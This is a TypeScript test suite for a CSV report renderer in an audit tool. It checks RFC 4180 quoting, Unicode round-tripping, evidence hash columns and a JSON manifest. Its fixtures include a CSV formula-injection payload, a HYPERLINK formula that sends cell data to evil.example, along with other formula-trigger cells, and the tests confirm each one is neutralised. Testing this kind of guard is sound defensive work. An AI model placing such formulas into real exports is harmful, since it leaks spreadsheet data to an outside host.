/**
 * The CSV form: RFC 4180, loads as a table (header first, no preamble), every cell comes back
 * as written, formulas cannot run, and each row names its log entries and their leaf hashes.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isCustosError } from '../../../src/errors.js';
import { csvHeaderLine, csvManifest, csvRowLine, renderCsv, unguardCsvCell } from '../../../src/audit/reports/render-csv.js';
import { csvRows } from '../../support/csv-rows.js';
import { fixtureReport, leafHex, ROWS } from './report-fixture.js';

const report = fixtureReport();
const KEYS = ['date', 'recipient', 'recipientName', 'organization', 'organizationName', 'description', 'purpose', 'count'];

describe('renderCsv (RFC 4180)', () => {
  it('starts with the header line of column keys, then the evidence columns, and has one record per row', () => {
    const records = csvRows(renderCsv(report));
    assert.deepEqual(records[0], [...KEYS, 'events', 'leaf_hashes', 'proofs', 'checkpoint']);
    assert.equal(records.length, 1 + ROWS.length);
    for (const r of records) assert.equal(r.length, KEYS.length + 4);
  });

  it('ends every line with CRLF and quotes only fields holding , " CR or LF, doubling quotes', () => {
    const csv = renderCsv(report);
    assert.ok(csv.endsWith('\r\n'));
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '""');
    assert.doesNotMatch(outsideQuotes, /[^\r]\n|\r(?!\n)/);
    assert.equal(outsideQuotes.split('\r\n').length, 1 + ROWS.length + 1);
    assert.ok(csv.includes('"St. Mary\'s, ""North"" Clinic"'));
    assert.ok(csv.includes('"Observation (1)\r\nCondition (1)"'));
    assert.ok(csv.startsWith('date,recipient,'));
  });

  it('round-trips commas, quotes, line breaks and non-Latin-1 text exactly', () => {
    const [, first] = csvRows(renderCsv(report));
    const cell = (k: string) => first![KEYS.indexOf(k)];
    assert.equal(cell('organizationName'), 'St. Mary\'s, "North" Clinic');
    assert.equal(cell('description'), 'Observation (1)\r\nCondition (1)');
    assert.equal(cell('recipientName'), 'Dr. Zoë Łukasz-山田 🩺');
    assert.equal(cell('count'), '1');
  });

  it('guards cells a spreadsheet would evaluate (= + - @ TAB, and a leading apostrophe) with one leading apostrophe', () => {
    const [, , second, third] = csvRows(renderCsv(report));
    const cell = (row: string[] | undefined, k: string) => row![KEYS.indexOf(k)]!;
    assert.equal(cell(second, 'recipient'), '\'=HYPERLINK("http://evil.example/?d="&A1,"click")');
    assert.equal(cell(second, 'organization'), "'@SUM(A1:A9)");
    assert.equal(cell(second, 'organizationName'), "'-2+3");
    assert.equal(cell(second, 'description'), "'\tCondition (1)");
    assert.equal(cell(second, 'purpose'), "''BTG: Patientin bewusstlos – Notfall, 山田様 (ER)");
    assert.equal(cell(third, 'recipientName'), "'+44 20 7946 0000");
    // Numbers are numbers: a negative one is no formula and keeps its value.
    assert.equal(cell(second, 'count'), '-3');
    // The guard is exactly reversible, the apostrophe-led cell included.
    for (const k of ['recipient', 'organization', 'organizationName', 'description', 'purpose']) {
      assert.equal(unguardCsvCell(cell(second, k)), ROWS[1]!.cells[k]);
    }
    assert.equal(unguardCsvCell('plain'), 'plain');
  });

  it('lists each row\'s log entries and their RFC 9162 leaf hashes, ;-separated', () => {
    const records = csvRows(renderCsv(report));
    const at = KEYS.length;
    assert.deepEqual(records.slice(1).map((r) => r[at]), ['1', '3;4', '6']);
    assert.equal(records[2]![at + 1], `${leafHex(3)};${leafHex(4)}`);
    assert.equal(records[3]![at + 1], leafHex(6));
  });

  it('streams: the header line and the row lines joined are the whole CSV', () => {
    assert.equal(csvHeaderLine(report) + report.rows.map((r) => csvRowLine(report, r)).join(''), renderCsv(report));
    const empty = fixtureReport({ rows: [], evidence: [] });
    assert.equal(renderCsv(empty), csvHeaderLine(empty));
    assert.equal(csvRows(renderCsv(empty)).length, 1);
  });

  it('refuses a row whose evidence the report does not carry (INTERNAL)', () => {
    const broken = fixtureReport({ evidence: fixtureReport().evidence.filter((e) => e.index !== 6) });
    assert.throws(() => renderCsv(broken), (e: unknown) => isCustosError(e) && e.code === 'INTERNAL' && /log entry 6/.test(e.message));
  });
});

describe('csvManifest', () => {
  it('carries the title, statement, scope, column meanings and checkpoint as JSON', () => {
    const m = JSON.parse(csvManifest(report)) as Record<string, any>;
    assert.equal(m['title'], report.header.title);
    assert.equal(m['statement'], report.header.statement);
    assert.deepEqual(m['scope'], report.scope);
    assert.deepEqual(m['checkpoint'], report.checkpoint);
    assert.deepEqual(m['columns'].map((c: { key: string }) => c.key), [...KEYS, 'events', 'leaf_hashes', 'proofs', 'checkpoint']);
    assert.equal(m['columns'][2].annotation, true);
    assert.equal(m['rows'], 3);
    assert.equal(m['provenEvents'], 4);
    assert.equal(m['unanchored'], 2);
    assert.match(m['verify'], /custos audit verify --report <file\.json>/);
  });

  it('says nothing is proven when there is no checkpoint', () => {
    const m = JSON.parse(csvManifest(fixtureReport({ checkpoint: null, rows: [], evidence: [], unanchored: 5 }))) as Record<string, unknown>;
    assert.equal(m['checkpoint'], null);
    assert.equal(m['provenEvents'], 0);
  });
});
